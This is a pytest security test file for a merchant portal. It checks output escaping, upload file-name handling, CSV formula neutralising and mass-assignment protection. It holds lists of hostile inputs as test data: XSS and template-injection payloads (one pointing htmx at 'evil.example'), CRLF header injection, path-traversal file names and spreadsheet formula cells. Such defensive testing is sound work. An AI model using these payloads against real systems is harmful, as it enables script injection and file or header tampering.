"""Whatever a merchant, a file or a channel says is shown as it was said, and is never markup, script or formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import select, update

from portal.models.accounts import Member, Merchant, User
from portal.models.catalog import Product, ProductImage, Variant
from portal.models.connections import Connection, ConnectionState, ExchangeEntry
from portal.models.imports import Import, ImportProblem
from portal.models.listings import Listing
from portal.models.rules import RoutingRule
from portal.tenancy import SYSTEM
from tests.depth import THOROUGH
from tests.security.house import House, soup
from tests.security.pages import forms_of, pages_of

PAYLOADS = [
    "<img src=x onerror=pwned() data-pwned>",
    '"><svg onload=pwned() data-pwned>',
    "' data-pwned='1' onmouseover='pwned()",
    '" data-pwned="1" hx-get="//evil.example" x="',
    "</textarea><b data-pwned>",
    "</title></style></script><script data-pwned>pwned()</script>",
    "<!-- --!><i data-pwned>",
    "{{7*7}}pwn {% raw %} ${7*7}pwn #{7*7}pwn",
    "javascript:pwned()//data-pwned",
    "<a href=javascript:pwned() hx-on:click=pwned() data-hx-get=/x data-pwned>",
    "&lt;b data-pwned&gt; &amp; &#60;b data-pwned&#62;",
    "<hx-partial hx-target='#main'><b data-pwned>",
    "\u2028\u2029\u202e<b data-pwned>",
    "]]><b data-pwned> --> <b data-pwned>",
]
# A few in each text, for every page is read for each: what breaks out alone breaks out in company.
GROUPS = 5 if THOROUGH else 2
TOGETHER = [" ".join(PAYLOADS[first::GROUPS]) for first in range(GROUPS)]
MARK = "data-pwned"


async def planted(house: House, payload: str) -> None:
    """The payload stands in every text of ours that a page can show."""
    problem = {
        **dict.fromkeys(["code", "original", "recommended", "channel_request_id", "message"], payload),
        "problem_class": "data",
        "original_lang": "en",
        "field": payload,
    }
    texts: dict[Any, dict[str, Any]] = {
        Product: {
            **dict.fromkeys(["title", "vendor", "product_type", "category", "seo_title", "seo_description"], payload),
            "description_html": payload,
            "tags": [payload],
            "option_names": [payload],
            "extra": {payload: payload},
            "source": payload,
            "updated_by": payload,
            "handle": Product.handle + payload,
        },
        Variant: {"sku": payload, "barcode": payload, "option_values": [payload], "image_url": payload},
        ProductImage: {"url": payload, "alt": payload},
        Connection: {"external_name": payload, "state": ConnectionState.NEEDS_REAUTH, "problem": problem},
        Listing: {"problem": problem, "url": payload, "handle": payload, "warnings": [problem]},
        RoutingRule: {"name": payload, "conditions": [["sku", "is", payload]], "then": [["tag", payload]]},
        Import: {"filename": f"{payload}.csv", "failure": payload},
        ImportProblem: {"column": payload, "message": payload},
        ExchangeEntry: {"operation": payload, "url": payload, "request_body": payload, "response_body": payload},
    }
    async with house.sessions.write(SYSTEM) as session:
        for model, values in texts.items():
            await session.execute(update(model).where(model.merchant_id == house.ours.merchant.id).values(**values))
        await session.execute(update(Merchant).where(Merchant.id == house.ours.merchant.id).values(name=payload))
        people = [person.id for person in house.ours.people.values()]
        await session.execute(update(User).where(User.id.in_(people)).values(name=payload))


def made(page: BeautifulSoup) -> list[str]:
    """Elements and attributes that no template of ours has written."""
    found = [str(one)[:300] for one in page.select(f"[{MARK}], script:not([src]), iframe, object, base, svg[onload]")]
    for element in page.find_all(True):
        for name, value in element.attrs.items():
            # A picture's address is fetched and never run.
            runs = name in {"href", "action", "formaction"} or (name == "src" and element.name != "img")
            if name.startswith("on") or (runs and str(value).strip().lower().startswith(("javascript:", "data:"))):
                found.append(str(element)[:300])
    return found


@pytest.mark.once
@pytest.mark.parametrize("payload", TOGETHER)
async def test_no_text_becomes_markup_on_any_page(house: House, payload: str) -> None:
    await planted(house, payload)
    shown, said = 0, payload.strip()
    async for path, answer in pages_of(house, house.ours):
        assert answer.status_code != 500, path
        if not answer.headers.get("content-type", "").startswith("text/html"):
            continue
        page = soup(answer)
        assert made(page) == [], path
        assert "49pwn" not in answer.text, path
        words = page.get_text() + "".join(
            str(value) for element in page.find_all(True) for value in element.attrs.values()
        )
        shown += said in words
    assert shown > 8, "the payload is on too few pages to prove anything"


async def test_the_search_that_was_typed_is_shown_as_typed(house: House) -> None:
    for path in (
        "/products?q=",
        "/inbox?q=",
        "/listings?q=",
        "/sign-in?next=/",
        "/connect/shopify?practice=true&shop=",
    ):
        for payload in PAYLOADS:
            answer = await house.ours.owner.http.get(path.partition("?")[0], params=_query(path, payload))
            assert made(soup(answer)) == [], (path, payload)


def _query(path: str, payload: str) -> dict[str, str]:
    pairs = [pair.split("=", 1) for pair in path.partition("?")[2].split("&")]
    return {name: value + payload if number == len(pairs) - 1 else value for number, (name, value) in enumerate(pairs)}


NAMES = [
    "a\r\nSet-Cookie: evil=1.csv",
    'a"; filename="b.exe.csv',
    "../../../etc/passwd.csv",
    "..\\..\\boot.csv",
    "\u202ecsv.exe.csv",
    "é漢字🦣.csv",
    "<img src=x onerror=pwned() data-pwned>.csv",
    "x" * 300 + ".csv",
    "..",
    "a\x00b.csv",
    "/",
]


async def test_a_files_name_is_only_a_name(house: House) -> None:
    for name in NAMES:
        await uploaded(house, name)


async def uploaded(house: House, name: str) -> None:
    """A file of that name is kept under one of ours, and given back under one of ours."""
    folder = house.runtime.settings.data_dir / "uploads"
    before = {path.name for path in folder.iterdir()}
    body = b"Handle,Title,Variant Price\r\na,A,1.00\r\n,,x\r\n"
    raw = name.encode().replace(b'"', b'\\"')
    content = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="' + raw + b'"\r\n\r\n' + body + b"\r\n--b--\r\n"
    )
    headers = {"Content-Type": "multipart/form-data; boundary=b", "x-csrftoken": await house.ours.owner.token()}
    answer = await house.ours.owner.http.post("/imports", content=content, headers=headers)
    assert answer.status_code in {303, 400, 422}, (name, answer.text)
    new = {path.name for path in folder.iterdir()} - before
    assert all(len(one) == 36 for one in new), "kept under a name that is not ours"
    if answer.status_code != 303:
        assert not new
        return
    page = await house.ours.owner.get(answer.headers["location"])
    assert page.status_code == 200
    assert made(soup(page)) == []
    assert not set(page.text) & set("\x00\u202e")
    download = await house.ours.owner.get(f"{answer.headers['location']}/refused.csv")
    assert download.status_code == 200
    disposition = download.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=\"not-imported.csv\"; filename*=UTF-8''")
    assert disposition.isascii()
    assert not set('\r\n\x00"\\/<>') & set(disposition.partition("UTF-8''")[2])
    assert "evil" not in download.cookies
    assert download.headers["content-type"] == "text/csv; charset=utf-8"


async def test_a_table_that_is_taken_home_holds_no_formula(house: House) -> None:
    cells = [
        "=HYPERLINK(1)",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u00a0=1",
        "＝1",
        "a\n=1",
        "-5",
        "+3.50",
    ]
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["Handle", "Title", "Variant Price"], *(["", cell, "no price"] for cell in cells)])
    files = {"file": ("f.csv", text.getvalue().encode(), "text/csv")}
    answer = await house.ours.owner.post("/imports", files=files)
    download = await house.ours.owner.get(f"{answer.headers['location']}/refused.csv")
    rows = list(csv.reader(io.StringIO(download.text.removeprefix("\ufeff"), newline="")))[1:]
    assert len(rows) >= len(cells) - 2
    dangerous = [
        cell for row in rows for cell in row if cell.strip("\t\r\n \u00a0")[:1] in set("=+-@＝") and not _number(cell)
    ]
    assert dangerous == []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ---- what a form is not asked for ----

PLANTED = "PLANTED-5c1"
ASKED_FOR_NOT = [
    "merchant_id",
    "tenant_id",
    "user_id",
    "role",
    "credits",
    "state",
    "cost",
    "is_staff",
    "id_",
    "version",
    "on_hand",
    "ours",
    "external_id",
    "currency_",
    "created_at",
    "secrets",
    "password_hash",
    "token_hash",
    "made_by",
    "stored_as",
    "search_text",
    "source",
    "handle_",
    "domain",
    "settings",
    "scopes",
    "email_verified_at",
    "disabled_at",
    "expires_at",
    "undo_until",
]


async def test_what_no_form_asks_for_is_stored_nowhere(house: House) -> None:
    theirs = [row for rows in (await house.dump()).values() for row in rows if house.theirs.mark in row]
    roles = await _roles(house)
    for form in await forms_of(house, house.ours):
        asked = {name for name, _value in form.fields}
        if form.action.endswith(("/role", "/sign-out")) or "removal" in form.action or "/revocation" in form.action:
            continue
        extra = [(name, PLANTED) for name in ASKED_FOR_NOT if name not in asked]
        nested = [(f"variants[0][{name}]", PLANTED) for name in ASKED_FOR_NOT[:5]]
        sent: dict[str, list[str]] = {}
        for name, value in [*form.fields, *form.fields[:1], *extra, *nested]:
            sent.setdefault(name, []).append(value)
        answer = await house.ours.owner.post(form.action, sent)
        assert answer.status_code != 500, form
    after = await house.dump()
    assert not [row for rows in after.values() for row in rows if PLANTED in row]
    assert [row for rows in after.values() for row in rows if house.theirs.mark in row] == theirs
    assert await _roles(house) == roles


async def _roles(house: House) -> list[tuple[Any, ...]]:
    """Who is what where; what members set about themselves is theirs to change."""
    columns = (Member.id, Member.merchant_id, Member.user_id, Member.role)
    async with house.sessions.read(SYSTEM) as session:
        return [tuple(row) for row in await session.execute(select(*columns).order_by(Member.id))]


async def test_no_text_field_of_any_form_breaks_on_an_odd_letter(house: House) -> None:
    """NUL, a lone surrogate's bytes, four-byte letters, marks of direction: taken, or refused in words."""
    broken = []
    for form in await forms_of(house, house.ours):
        for odd in ("a\x00b", "\U0001f9a3" * 40, "\u202eabc", "İ", "x" * 70_000):
            sent = dict(form.fields) | dict.fromkeys(form.texts, odd)
            answer = await house.ours.owner.post(form.action, sent)
            if answer.status_code == 500:
                broken.append((form.action, form.texts, odd[:5]))
    assert broken == []
